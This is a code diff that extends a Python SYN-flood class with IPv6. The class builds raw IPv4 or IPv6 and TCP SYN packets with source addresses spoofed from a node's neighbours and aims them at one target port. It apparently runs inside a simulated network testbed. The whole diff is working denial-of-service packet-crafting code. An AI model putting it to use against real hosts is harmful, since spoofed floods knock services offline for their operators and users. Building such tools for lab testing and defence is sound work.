@@ -18,14 +18,16 @@ def checksum(total):
 
 
 class SynFlood:
-    """From neighbours of the node, IPv4, to one address. Every SYN is a new connection."""
+    """From neighbours of the node to one address. Every SYN is a new connection."""
 
     def __init__(self, node, address, port=21):
+        self.six = ":" in address
+        family = socket.AF_INET6 if self.six else socket.AF_INET
         with node.inside():
-            self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+            self.raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
         self.address = address
-        self.network = socket.inet_aton(node.ip4)[:3]
-        self.target = socket.inet_aton(address)
+        self.network = socket.inet_pton(family, node.ip6 if self.six else node.ip4)[:-1]
+        self.target = socket.inet_pton(family, address)
         self.port = port
         self.sent = 0
 
@@ -33,7 +35,10 @@ class SynFlood:
         source = self.network + bytes([SOURCES[number % len(SOURCES)]])
         front = struct.pack("!HHIIBBH", FIRST_PORT + number // len(SOURCES), self.port, number, 0, 5 << 4, SYN, 1024)
         total = words(source + self.target) + socket.IPPROTO_TCP + 20 + words(front)
-        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, self.target)
+        if self.six:
+            header = struct.pack("!IHBB16s16s", 6 << 28, 20, socket.IPPROTO_TCP, 64, source, self.target)
+        else:
+            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, self.target)
         return header + front + struct.pack("!HH", checksum(total), 0)
 
     def send(self, count):
